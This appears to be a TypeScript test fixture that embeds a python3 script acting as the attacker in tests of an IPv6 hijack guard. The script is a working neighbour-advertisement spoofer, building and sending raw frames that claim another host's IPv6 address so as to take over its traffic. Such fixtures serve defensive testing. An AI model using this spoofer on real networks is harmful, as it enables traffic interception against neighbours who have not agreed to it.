/** Small python3 programs that play the attacker in the guard's hijack tests (real sockets, raw frames). */

/**
 * Unsolicited neighbour advertisements (override flag set) from interface argv[1], claiming IPv6
 * address argv[2] for the interface's own MAC, argv[3] times: what a spoofer sends to take a
 * neighbour's traffic.
 */
export const SPOOFED_NA_PY = String.raw`
import socket, struct, sys, time
iface, target, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
mac = bytes.fromhex(open('/sys/class/net/%s/address' % iface).read().strip().replace(':', ''))
src = socket.inet_pton(socket.AF_INET6, target)
dst = socket.inet_pton(socket.AF_INET6, 'ff02::1')
na = struct.pack('!BBHI', 136, 0, 0, 0x20000000) + src + struct.pack('!BB', 2, 1) + mac
pseudo = src + dst + struct.pack('!I', len(na)) + b'\x00\x00\x00\x3a'
data = pseudo + na
s = sum((data[i] << 8) + data[i + 1] for i in range(0, len(data), 2))
while s > 0xffff:
    s = (s & 0xffff) + (s >> 16)
na = na[:2] + struct.pack('!H', ~s & 0xffff) + na[4:]
ip6 = struct.pack('!IHBB', 0x60000000, len(na), 58, 255) + src + dst
frame = b'\x33\x33\x00\x00\x00\x01' + mac + b'\x86\xdd' + ip6 + na
sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
sock.bind((iface, 0))
for _ in range(count):
    sock.send(frame)
    time.sleep(0.2)
`;
